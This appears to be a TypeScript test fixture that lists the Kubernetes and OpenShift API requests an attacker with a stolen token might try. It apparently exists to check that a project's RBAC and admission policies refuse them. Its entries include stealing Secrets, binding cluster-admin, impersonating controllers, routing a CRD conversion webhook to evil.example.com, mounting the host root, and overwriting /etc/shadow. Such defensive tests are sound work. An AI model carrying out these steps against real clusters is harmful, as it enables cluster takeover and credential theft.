/** What somebody tries with a stolen token. */

import { meta } from '../support/meta.ts';
import {
  type At,
  type Attack,
  applied,
  changed,
  made,
  posted,
  read,
  reallyMade,
  removed,
} from './rights-requests.ts';

const thief = { kind: 'ServiceAccount', name: 'thief', namespace: 'default' };

/** Names of objects of ours that stand in the cluster: who may write one of them tries to. */
export interface Present {
  readonly policies: readonly string[];
  readonly policyBindings: readonly string[];
  readonly roles: readonly string[];
}

/** Namespaces with accounts or Secrets that are worth something. */
export const NAMESPACES: readonly string[] = [
  'kube-system',
  'default',
  'openshift-config',
  'clusters-guest',
  'pullwright-system',
  'hyperfleet-system',
];

/** The Secret that stands in each of {@link NAMESPACES}. */
export const FOREIGN = 'of-others';

function ofNamespace(namespace: string): readonly Attack[] {
  const secret = (name: string): At => ({ resource: 'secrets', namespace, name });
  const token = {
    ...meta('v1 Secret', {
      name: 'thief',
      namespace,
      annotations: { 'kubernetes.io/service-account.name': 'default' },
    }),
    type: 'kubernetes.io/service-account-token',
  };
  const pod = {
    serviceAccountName: namespace === 'kube-system' ? 'clusterrole-aggregation-controller' : 'default',
    // As PodSecurity wants it where it is strictest, so that only policies of ours are left to refuse it.
    securityContext: { runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } },
    containers: [
      {
        name: 'a',
        image: 'registry.example.com/evil',
        securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } },
      },
    ],
  };
  const template = { metadata: { labels: { a: 'b' } }, spec: pod };
  const spec = { selector: { matchLabels: { a: 'b' } }, template };
  const job = { template: { spec: { ...pod, restartPolicy: 'Never' } } };
  const apps = (kind: string, resource: string): Attack =>
    made(
      { group: 'apps/v1', resource, namespace },
      {
        apiVersion: 'apps/v1',
        kind,
        metadata: { name: 'thief', namespace },
        spec,
      },
    );
  return [
    read('get', secret(FOREIGN)),
    read('list', { resource: 'secrets', namespace }),
    made(secret('thief'), token),
    applied(secret('thief'), token),
    changed(secret(FOREIGN), { data: null }),
    removed(secret(FOREIGN)),
    // Not as a dry run, which is what the one account that makes pods may do.
    reallyMade(
      { resource: 'pods', namespace },
      { ...meta('v1 Pod', { name: 'thief', namespace }), spec: pod },
    ),
    apps('Deployment', 'deployments'),
    apps('DaemonSet', 'daemonsets'),
    apps('StatefulSet', 'statefulsets'),
    made(
      { group: 'batch/v1', resource: 'jobs', namespace },
      { ...meta('batch/v1 Job', { name: 'thief', namespace }), spec: job },
    ),
    made(
      { group: 'batch/v1', resource: 'cronjobs', namespace },
      {
        ...meta('batch/v1 CronJob', { name: 'thief', namespace }),
        spec: { schedule: '* * * * *', jobTemplate: { spec: job } },
      },
    ),
    changed(
      { resource: 'namespaces', namespace, name: namespace },
      {
        metadata: { labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } },
      },
    ),
    posted(
      { resource: 'serviceaccounts/token', namespace, name: 'default' },
      {
        apiVersion: 'authentication.k8s.io/v1',
        kind: 'TokenRequest',
        spec: {},
      },
    ),
    changed(
      { resource: 'serviceaccounts', namespace, name: 'default' },
      {
        secrets: [{ name: 'thief' }],
      },
    ),
    read('get', { resource: 'pods/exec', namespace, name: 'a' }),
    read('get', { resource: 'pods/portforward', namespace, name: 'a' }),
    changed({ resource: 'pods/ephemeralcontainers', namespace, name: 'a' }, {}),
    posted(
      { resource: 'pods/eviction', namespace, name: 'a' },
      meta('policy/v1 Eviction', { name: 'a', namespace }),
    ),
    removed({ resource: 'pods', namespace, name: 'a' }),
    applied(
      { resource: 'configmaps', namespace, name: 'aws-auth' },
      meta('v1 ConfigMap', { name: 'aws-auth', namespace }),
    ),
    ...['cluster-admin', 'admin', 'edit'].map((role) => bound(namespace, 'thief', role)),
    made(
      { group: 'rbac.authorization.k8s.io/v1', resource: 'roles', namespace },
      {
        ...meta('rbac.authorization.k8s.io/v1 Role', { name: 'thief', namespace }),
        rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }],
      },
    ),
  ];
}

function bound(namespace: string | undefined, name: string, role: string): Attack {
  const resource = namespace === undefined ? 'clusterrolebindings' : 'rolebindings';
  const at: At = {
    group: 'rbac.authorization.k8s.io/v1',
    resource,
    name,
    ...(namespace === undefined ? {} : { namespace }),
  };
  return applied(at, {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: namespace === undefined ? 'ClusterRoleBinding' : 'RoleBinding',
    metadata: { name, ...(namespace === undefined ? {} : { namespace }) },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
    subjects: [thief],
  });
}

const ALL = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];

/** Who has all rights, and who has many. */
const IMPERSONATED: readonly (Pick<Attack, 'resource' | 'namespace' | 'name'> & { readonly as: string })[] = [
  { resource: 'users', name: 'system:kube-controller-manager', as: 'system:kube-controller-manager' },
  ...(
    [
      ['kube-system', 'clusterrole-aggregation-controller'],
      ['pullwright-system', 'pullwright-reconciler'],
    ] as const
  ).map(([namespace, name]) => ({
    resource: 'serviceaccounts',
    namespace,
    name,
    as: `system:serviceaccount:${namespace}:${name}`,
  })),
];

/** Secrets that accounts of ours read by name. */
const NAMED_SECRETS = [
  ['openshift-config', 'pull-secret'],
  ['kube-system', 'additional-pull-secret'],
  ['clusters-guest', 'pull-secret'],
  ['clusters-guest', 'pullwright-kubeconfig'],
  ['clusters-guest', 'admin-kubeconfig'],
] as const;

/** Bindings that accounts of ours write by name. */
const BINDINGS = [
  [undefined, 'global-pull-secret-syncer'],
  ['kube-system', 'global-pull-secret-syncer'],
  ['openshift-config', 'global-pull-secret-syncer'],
  ['kube-system', 'pullsecret-adapter-job'],
  ['clusters-guest', 'pullsecret-adapter-job'],
] as const;

function ofCluster({ policies, policyBindings, roles }: Present): readonly Attack[] {
  const admission = 'admissionregistration.k8s.io/v1';
  const guards = [
    ...policies.map((name) => ['validatingadmissionpolicies', name, { spec: { validations: [] } }] as const),
    ...policyBindings.map(
      (name) =>
        ['validatingadmissionpolicybindings', name, { spec: { validationActions: ['Audit'] } }] as const,
    ),
  ].flatMap(([resource, name, body]) => [
    removed({ group: admission, resource, name }),
    changed({ group: admission, resource, name }, body),
  ]);
  return [
    ...guards,
    ...['cluster-admin', 'admin', 'edit', 'system:controller:clusterrole-aggregation-controller'].map(
      (role) => bound(undefined, 'thief', role),
    ),
    ...[...roles, 'thief'].map((name) =>
      applied(
        { group: 'rbac.authorization.k8s.io/v1', resource: 'clusterroles', name },
        { ...meta('rbac.authorization.k8s.io/v1 ClusterRole', { name }), rules: ALL },
      ),
    ),
    ...IMPERSONATED.map(
      ({ as, ...at }): Attack => ({
        ...at,
        verb: 'impersonate',
        method: 'GET',
        path: '/api/v1/secrets',
        as,
      }),
    ),
    ...NAMED_SECRETS.map(([namespace, name]) => read('get', { resource: 'secrets', namespace, name })),
    ...BINDINGS.map(([namespace, name]) => bound(namespace, name, 'cluster-admin')),
    ...['mutatingadmissionpolicies', 'mutatingadmissionpolicybindings'].map((resource) =>
      removed({ group: admission, resource, name: 'pullwright-pull-secret-injection' }),
    ),
    changed({ group: admission, resource: 'mutatingwebhookconfigurations', name: 'pullwright-webhook' }, {}),
    made(
      { group: admission, resource: 'mutatingwebhookconfigurations' },
      meta(`${admission} MutatingWebhookConfiguration`, { name: 'thief' }),
    ),
    made(
      { group: admission, resource: 'validatingadmissionpolicies' },
      meta(`${admission} ValidatingAdmissionPolicy`, { name: 'thief' }),
    ),
    changed(
      { group: 'certificates.k8s.io/v1', resource: 'certificatesigningrequests/approval', name: 'thief' },
      {},
    ),
    made({ group: 'apiregistration.k8s.io/v1', resource: 'apiservices' }, {}),
    changed(
      {
        group: 'apiextensions.k8s.io/v1',
        resource: 'customresourcedefinitions',
        name: 'pullstatuses.pullwright.dev',
      },
      {
        spec: {
          conversion: {
            strategy: 'Webhook',
            webhook: {
              clientConfig: { url: 'https://evil.example.com/' },
              conversionReviewVersions: ['v1'],
            },
          },
        },
      },
    ),
    made(
      { resource: 'persistentvolumes' },
      {
        ...meta('v1 PersistentVolume', { name: 'thief' }),
        spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' } },
      },
    ),
    read('get', { resource: 'nodes/proxy', name: 'n1' }),
    changed({ resource: 'nodes', name: 'n1' }, { spec: { unschedulable: true } }),
    changed({ resource: 'nodes/status', name: 'n1' }, { status: {} }),
    removed({ resource: 'nodes', name: 'n1' }),
    ...['99-thief', '97-worker-generated-credentialproviderconfig'].map((name) =>
      applied(
        { group: 'machineconfiguration.openshift.io/v1', resource: 'machineconfigs', name },
        {
          ...meta('machineconfiguration.openshift.io/v1 MachineConfig', {
            name,
            labels: { 'machineconfiguration.openshift.io/role': 'worker' },
          }),
          spec: {
            config: {
              ignition: { version: '3.5.0' },
              storage: { files: [{ path: '/etc/shadow', contents: { source: 'data:,' } }] },
            },
          },
        },
      ),
    ),
    // HyperShift brings the MachineConfig in such ConfigMaps to the nodes of a hosted cluster.
    ...(
      [
        ['clusters', 'guest-crio-credential-provider'],
        ['clusters-guest', 'registry-overrides'],
      ] as const
    ).map(([namespace, name]) =>
      applied(
        { resource: 'configmaps', namespace, name },
        {
          apiVersion: 'v1',
          kind: 'ConfigMap',
          metadata: { name, namespace, labels: { 'hypershift.openshift.io/core-ignition-config': 'true' } },
          data: { config: 'kind: MachineConfig' },
        },
      ),
    ),
    read('list', { resource: 'secrets' }),
  ];
}

/** The whole table. */
export function attacksOn(present: Present): readonly Attack[] {
  return [...NAMESPACES.flatMap(ofNamespace), ...ofCluster(present)];
}
